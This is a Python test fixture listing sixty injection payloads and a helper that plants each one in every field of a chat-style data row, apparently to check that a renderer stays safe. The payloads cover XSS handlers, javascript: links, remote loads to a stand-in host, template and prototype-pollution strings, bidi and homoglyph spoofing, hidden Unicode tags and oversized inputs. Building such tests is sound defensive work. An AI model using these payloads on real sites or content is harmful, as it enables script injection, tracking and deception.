"""Sixty rows that try to reach out of the pane: scripts, loads, links, styles, tricks with characters.

Each payload would call `window.__ran(...)`, set `window.__ran_flag`, or ask `http://sink.invalid/` if it got its way.
"""

from __future__ import annotations

from typing import Any

SINK = "http://sink.invalid"
RUN = "window.__ran_flag=1"

PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={SINK}/x.js></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{SINK}/pixel.png" width=1 height=1>',
    f"<svg onload={RUN}><circle r=9></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="{SINK}/a.svg#x"></use></svg>',
    f"<iframe src='{SINK}/frame'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{SINK}/o'></object><embed src='{SINK}/e'>",
    f"<link rel=stylesheet href={SINK}/s.css>",
    f"<style>@import url({SINK}/i.css); body{{background:url({SINK}/bg.png)}}</style>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>overlay</div>",
    f"<body onload={RUN}>",
    f"<video src='{SINK}/v.mp4' autoplay onloadstart={RUN}></video>",
    f"<audio src='{SINK}/a.mp3' autoplay></audio>",
    f"<form action={SINK}/f><button autofocus onfocus={RUN}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={SINK}/m'>",
    f"<base href={SINK}/>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[data](data:text/html;base64,PHNjcmlwdD4{RUN})",
    f"[x](<{SINK}/angle>)",
    f"![alt]({SINK}/image.png)",
    f"![alt][ref]\n\n[ref]: {SINK}/ref.png",
    f"[![badge]({SINK}/badge.svg)]({SINK}/go)",
    f'![a]({SINK}/t.png "title\\" onerror={RUN}")',
    f"![\u202egnp.exe]({SINK}/bidi.png)",
    "<details open ontoggle=window.__ran_flag=1><summary>s</summary></details>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<x-y onclick={RUN} style='width:9999px'>custom</x-y>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\includegraphics{{{SINK}/k.png}}$$",
    "\\(\\unicode{x3c}script\\) \\htmlData{x=1}{y}",
    "&lt;script&gt;window.__ran_flag=1&lt;/script&gt; &#60;img src=x onerror=1&#62;",
    "{{constructor.constructor('window.__ran_flag=1')()}} ${window.__ran_flag=1} <%= 7*7 %> #{7*7}",
    "`${window.__ran_flag=1}` and ``<script>`` and ```js\nwindow.__ran_flag=1\n```",
    ":red[text] :material/delete: :streamlit: :rainbow[x] :blue-background[y]",
    "__proto__ constructor prototype hasOwnProperty toString",
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    "\x1b[31mred\x1b[0m \x1b]8;;http://sink.invalid/\x07link\x1b]8;;\x07 \x07\x08\x00",
    "access \u202e\u2066// admin only\u2069 \u2066{ \u202d begin",
    "pass\u200bword p\u00adayp\u00adal \u2060\ufeff\u180e zero",
    "\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 hidden tags",
    "http://xn--pypal-4ve.com and https://\u0440\u0430ypal.com/login and //sink.invalid/x",
    "a\u0301" * 40 + "\u0489" * 200 + " zalgo",
    "W" * 60_000,
    "<b>" * 3_000 + "deep",
    ("> " * 200) + "quotes" + ("\n" + "  " * 60 + "- list") * 40,
    "[" * 2_000 + "](" * 2_000,
    "*" * 4_000 + "_" * 4_000 + "`" * 4_001,
    "| a |" * 300 + "\n" + "|---" * 300 + "|\n" + "| <img src=x onerror=window.__ran_flag=1> |" * 20,
    "\ufeff\u2028\u2029\u0085line\rreturns\r\nhere\x0b\x0c",
    "😀👨‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f❤️1️⃣ emoji",
    f"<a href={SINK} ping={SINK}/ping target=_blank rel=opener>new window</a>",
    f"<input autofocus onfocus={RUN}><select onfocus={RUN} autofocus></select><textarea>",
    "]]><![CDATA[<script>window.__ran_flag=1</script>]]> <!--><script>window.__ran_flag=1</script>-->",
)
assert len(PAYLOADS) == 60


def hostile_row(payload: str, number: int) -> dict[str, Any]:
    """Members of a row that carries the payload in every place a row has."""
    call = {"id": payload[:60], "type": "function", "function": {"name": payload[:60], "arguments": payload}}
    return {
        "messages": [
            {"role": "system", "content": payload},
            {"role": "user", "content": payload, "name": payload[:60]},
            {"role": "assistant", "content": None, "reasoning_content": payload, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": payload[:60], "content": payload},
            {"role": "assistant", "content": f"{payload}\n\nrow {number}"},
        ],
        "tools": [{"type": "function", "function": {"name": payload[:60], "description": payload[:2000]}}],
        "source": payload[:80],
        "tokens": payload[:40],
        "history": (payload[:200],),
        "note": payload[:200],
    }
